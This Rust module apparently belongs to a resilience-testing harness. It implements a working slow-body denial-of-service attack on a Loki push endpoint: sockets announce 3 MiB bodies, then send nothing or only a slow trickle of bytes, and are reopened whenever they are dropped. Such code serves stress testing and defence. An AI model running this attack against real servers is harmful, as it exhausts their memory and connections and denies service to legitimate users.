//! Bodies that are announced and do not come, and such that come a little at a time.

use crate::server::Server;
use std::io::Write;
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

const SILENT: usize = 40;
const TRICKLING: usize = 20;
/// What the trickling ones send at once, and then every tick.
const FIRST_BYTES: usize = 1 << 20;
const THEN_BYTES: usize = 1 << 10;
const TICK: Duration = Duration::from_millis(100);

/// Sockets that announce as much as a body may have: some send ten bytes and no more, some a part and then a trickle, which
/// is what holds the most memory for the least work. Those that are cut off come again.
pub fn attack(server: &Server, stop: &AtomicBool) -> String {
    let mut sockets: Vec<Option<TcpStream>> = (0..SILENT + TRICKLING).map(|_| None).collect();
    let (mut opened, mut tick) = (0, vec![b' '; THEN_BYTES]);
    tick.fill(b' ');
    while !stop.load(Ordering::Relaxed) {
        for (n, socket) in sockets.iter_mut().enumerate() {
            let sent = match socket {
                Some(stream) if n >= SILENT => stream.write_all(&tick).is_ok(),
                Some(_) => true,
                None => false,
            };
            if !sent {
                *socket = open(server, if n < SILENT { 10 } else { FIRST_BYTES });
                opened += usize::from(socket.is_some());
            }
        }
        std::thread::sleep(TICK);
    }
    format!("{} sockets, opened {opened} times", sockets.len())
}

fn open(server: &Server, first: usize) -> Option<TcpStream> {
    let mut stream = server.connect()?;
    stream.set_write_timeout(Some(Duration::from_millis(200))).ok()?;
    let length = 3 << 20;
    let head = format!(
        "POST /loki/api/v1/push HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
    );
    stream.write_all(head.as_bytes()).ok()?;
    // Whether all of it goes out makes no difference: the server may take its time.
    let _ = stream.write_all(&vec![b' '; first]);
    Some(stream)
}
